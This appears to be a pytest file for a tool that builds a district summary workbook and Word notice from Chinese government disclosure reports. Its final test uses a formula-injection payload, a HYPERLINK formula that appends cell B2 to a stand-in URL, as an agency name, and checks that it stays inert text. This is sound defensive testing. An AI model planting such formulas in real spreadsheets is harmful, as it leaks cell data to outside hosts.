"""The district summary workbook (汇总, 单位一览, 问题清单) and the 情况通报, read back as a user's Excel or
Word would: the sums in the official layout, one row per file with its status, every finding and every
unreadable file, merged ranges and print setup."""

from __future__ import annotations

import re
from decimal import Decimal

import docx
import openpyxl
from openpyxl import Workbook

from editor.checks import check
from editor.cli import main
from editor.io.docx.summary_notice import write_summary_docx
from editor.io.xlsx.summary_book import write_summary_xlsx
from editor.io.xlsx.tables import write_official_tables
from editor.schema import edition_for_year
from editor.summary import HAS_ERRORS, PASSED, SET_APART, UNREADABLE, summarize
from tests.summary_helpers import make_district
from tests.test_summary import make_folder


def _positions(year: int) -> dict:
    """Where each value cell sits on the 汇总 sheet: the official layout on an empty sheet (its title row
    included), independent of any values."""
    ws = Workbook().active
    placement = write_official_tables(ws, edition_for_year(year), {}, title="标题", validation=False)
    return placement.cells


def _rows(ws) -> list[dict]:
    header = [c.value for c in ws[1]]
    return [dict(zip(header, (c.value for c in row), strict=True)) for row in ws.iter_rows(min_row=2)]


def test_workbook_sums_statuses_findings_and_print_setup(tmp_path):
    folder, summed = make_folder(tmp_path)
    summary = summarize([folder])
    out = tmp_path / "汇总.xlsx"
    write_summary_xlsx(summary, out, base=folder)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["汇总", "指标", "单位一览", "问题清单"]

    # 汇总: every value cell holds the sum over the four accepted reports, computed here cell by cell.
    ws = wb["汇总"]
    ed = edition_for_year(2024)
    positions = _positions(2024)
    assert set(positions) == set(ed.cells())
    for ref, coord in positions.items():
        expected = sum((r.values.get(ref, 0) for r in summed), 0)
        got = ws[coord].value
        if isinstance(expected, Decimal):
            assert Decimal(str(got)) == expected, ref
        else:
            assert got == expected, (ref, coord, got, expected)
    assert "4份报告合计" in ws["A1"].value
    assert any(r.min_row == 1 and r.max_col > 1 for r in ws.merged_cells.ranges)  # title across the tables
    assert len(ws.merged_cells.ranges) > 30  # the official tables' merged headers and labels
    note_row = max(c.row for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "合计包含" in c.value)
    assert "其中1份有错误" in ws.cell(note_row, 1).value
    assert int(re.search(r"\$(\d+)$", ws.print_area).group(1)) >= note_row  # the note prints too

    # 单位一览: one row per file, its status, counts and main numbers.
    rows = {r["文件"].replace("\\", "/"): r for r in _rows(wb["单位一览"])}
    assert set(rows) == {"商务局.gknb", "教育局.json", "乡镇/某某镇.gknb", "卫健委.gknb", "民政局2023.gknb",
                         "损坏.gknb", "配置.json"}
    assert {k: r["状态"] for k, r in rows.items()} == {
        "商务局.gknb": PASSED, "教育局.json": PASSED, "乡镇/某某镇.gknb": PASSED, "卫健委.gknb": HAS_ERRORS,
        "民政局2023.gknb": SET_APART, "损坏.gknb": UNREADABLE, "配置.json": UNREADABLE}
    broken = summed[3]
    errors = [f for f in check(broken) if f.severity == "error"]
    assert rows["卫健委.gknb"]["单位"] == "区卫健委" and rows["卫健委.gknb"]["错误"] == len(errors) > 0
    assert rows["卫健委.gknb"]["本年新收"] == broken.get(("requests", "new", "total"))
    assert rows["商务局.gknb"]["上年结转"] == summed[0].get(("requests", "carried_over", "total"))
    assert rows["商务局.gknb"]["格式版本"] == "2021年版" and rows["商务局.gknb"]["年度"] == 2024
    assert "2023" in rows["民政局2023.gknb"]["说明"]
    assert "损坏" in rows["损坏.gknb"]["说明"] and rows["损坏.gknb"]["错误"] is None
    assert rows["配置.json"]["说明"]

    # 问题清单: every open finding of every readable report, then the unreadable files with their reasons.
    findings = _rows(wb["问题清单"])
    expected = [(u.agency, f.message) for u in summary.units for f in u.findings if not f.acknowledged]
    assert [(r["单位"], r["问题"]) for r in findings if r["类别"] != "无法读取"] == expected
    assert {m for a, m in expected if a == "区卫健委"} >= {f.message for f in errors}
    assert [r["序号"] for r in findings] == list(range(1, len(findings) + 1))
    unreadable = {r["文件"]: r["问题"] for r in findings if r["类别"] == "无法读取"}
    assert set(unreadable) == {"损坏.gknb", "配置.json"} and all(unreadable.values())
    row_sum = next(r for r in findings if r["规则"] == "表三总计列等于各类申请人之和")
    assert "本年新收" in row_sum["涉及单元格"] and "requests." not in row_sum["涉及单元格"]

    # Print setup: A4, one page wide, header row repeated; wrapped rows are tall enough to be read.
    for name in wb.sheetnames:
        ps = wb[name].page_setup
        assert ps.paperSize == 9 and ps.fitToWidth == 1 and wb[name].sheet_properties.pageSetUpPr.fitToPage
    for name in ("单位一览", "问题清单"):
        sheet = wb[name]
        assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$1:$1"
        assert sheet.freeze_panes == "A2"
        assert "&P" in sheet.oddFooter.center.text
    long_row = next(i for i, r in enumerate(findings, start=2) if len(r["问题"]) > 60)
    assert wb["问题清单"].row_dimensions[long_row].height >= 2 * 13


def test_own_report_in_the_workbook(tmp_path):
    ref = ("appeals", "cases", "review_total")
    folder, _, units = make_district(tmp_path, ref, 2)
    summary = summarize([folder], own=tmp_path / "区政府.gknb")
    out = tmp_path / "汇总.xlsx"
    write_summary_xlsx(summary, out, base=folder)
    wb = openpyxl.load_workbook(out)
    status = {r["单位"]: r["状态"] for r in _rows(wb["单位一览"])}
    assert status == {"单位1": PASSED, "单位2": PASSED, "某某区人民政府": "本级报告"}
    assert "不一致1处" in next(r["说明"] for r in _rows(wb["单位一览"]) if r["单位"] == "某某区人民政府")
    mismatches = [r for r in _rows(wb["问题清单"]) if r["规则"] == "本级报告与下级汇总不一致"]
    assert len(mismatches) == 1 and "相差2" in mismatches[0]["问题"]
    assert mismatches[0]["单位"] == "某某区人民政府"
    # The own report is not in the sums: 汇总 holds the units' total.
    cell = _positions(2024)[ref]
    assert wb["汇总"][cell].value == units[0].get(ref) + units[1].get(ref)
    notice = tmp_path / "通报.docx"
    write_summary_docx(summary, notice, base=folder)
    text = "\n".join(p.text for p in docx.Document(str(notice)).paragraphs)
    assert "本级报告与下级报告合计不一致" in text and "相差2" in text


def test_cli_writes_the_workbook_and_the_notice(tmp_path, capsys):
    folder, _ = make_folder(tmp_path)
    out, notice = tmp_path / "汇总.xlsx", tmp_path / "通报.docx"
    # Exit 1: the folder holds a report with errors and two unreadable files (the outputs are written all the same).
    assert main(["summarize", str(folder), "-o", str(out), "--notice", str(notice)]) == 1
    assert "已写出情况通报" in capsys.readouterr().out
    assert openpyxl.load_workbook(out).sheetnames == ["汇总", "指标", "单位一览", "问题清单"]
    d = docx.Document(str(notice))
    paragraphs = [(p.style.style_id, p.text) for p in d.paragraphs]
    assert paragraphs[0][0] == "GknbTitle" and "2024年度" in paragraphs[0][1] and "通报" in paragraphs[0][1]
    text = "\n".join(t for _, t in paragraphs)
    assert "其中4份2024年度报告计入汇总" in text and "存在错误的1份" in text
    broken = next(t for _, t in paragraphs if "区卫健委" in t)
    assert "卫健委.gknb" in broken and "相差1" in broken
    assert "区民政局" in text and "损坏.gknb" in text and "配置.json" in text
    assert "区商务局" not in text  # passed reports are not named
    assert {s for s, _ in paragraphs} <= {"GknbTitle", "GknbBody", "GknbHeading"}
    # Chinese fonts on the styles' eastAsia attribute (docx_style), not only ascii/hAnsi.
    body = d.styles.element.xpath('//w:style[@w:styleId="GknbBody"]//w:rFonts')[0]
    assert body.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia")


def test_cli_rejects_a_notice_that_is_not_docx(tmp_path, capsys):
    folder, _ = make_folder(tmp_path)
    assert main(["summarize", str(folder), "-o", str(tmp_path / "a.xlsx"), "--notice", str(tmp_path / "n.pdf")]) == 2
    assert "情况通报应保存为 .docx" in capsys.readouterr().err


def test_notice_numbers_every_item_of_a_long_list():
    from editor.io.docx.summary_notice import _chinese_number

    assert [_chinese_number(n) for n in (1, 10, 11, 20, 21, 99, 100, 250)] == [
        "一", "十", "十一", "二十", "二十一", "九十九", "100", "250"]


def test_a_missing_own_report_is_refused_before_any_work(tmp_path):
    from tests.test_cli import run

    folder, _, _ = make_district(tmp_path, ("requests", "new", "total"), 1)
    out = tmp_path / "汇总.xlsx"
    proc = run("summarize", folder, "-o", out, "--own", tmp_path / "没有的本级报告.gknb")
    assert proc.returncode == 2 and "找不到" in proc.stderr and "没有的本级报告.gknb" in proc.stderr
    assert not out.exists()


def test_agency_and_file_names_that_look_like_formulas_stay_text(tmp_path):
    """An agency named like a formula (and a file named so) is written as text in 单位一览, never as a
    live formula (issue 12, item 5)."""
    from editor.io.native import write_native
    from editor.samples import sample_report

    folder = tmp_path / "下级"
    folder.mkdir()
    evil = '=HYPERLINK("http://example.invalid/"&B2,"x")'
    write_native(sample_report(2024, seed=1, agency=evil), folder / "=1+1.gknb")
    write_native(sample_report(2024, seed=2, agency="@SUM(A1)"), folder / "b.gknb")
    out = tmp_path / "汇总.xlsx"
    write_summary_xlsx(summarize([folder]), out)
    wb = openpyxl.load_workbook(out)
    texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == evil for c in texts)
    assert any(c.value.startswith("=1+1") for c in texts)
    assert all(c.data_type != "f" for c in texts), [c.value for c in texts if c.data_type == "f"]
